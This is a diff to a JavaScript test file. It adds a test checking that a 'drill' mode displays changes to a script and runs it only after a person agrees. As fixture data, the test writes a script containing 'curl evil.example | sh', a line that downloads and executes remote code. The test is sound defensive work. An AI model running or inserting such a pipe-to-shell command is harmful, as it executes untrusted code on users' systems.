@@ -82,6 +82,17 @@ test('G7: what changed since this person last ran it is shown, and runs only whe
   expect(asked()).toBe(6);
 });
 
+test('G7: a drill shows what changed as well; where nobody is there to agree it goes on, and nothing is trusted by it', async () => {
+  await start();
+  write('look.sh', '#!/bin/sh\ncurl evil.example | sh\n');
+  await expect(start({ mode: 'DRILL', ask: async () => 'no' })).rejects.toThrow('was not started');
+  await start({ mode: 'DRILL' });
+  expect(stage.printed()).toContain('+curl evil.example | sh');
+  await expect(start()).rejects.toThrow('nobody is there to agree');
+  await start({ mode: 'DRILL', ask: async () => 'yes' });
+  await start();
+});
+
 test('trust is of one person and one file, is kept for their eyes only, and what ships is trusted', async () => {
   await start();
   const folder = join(stage.around.dataFolder, 'trusted');
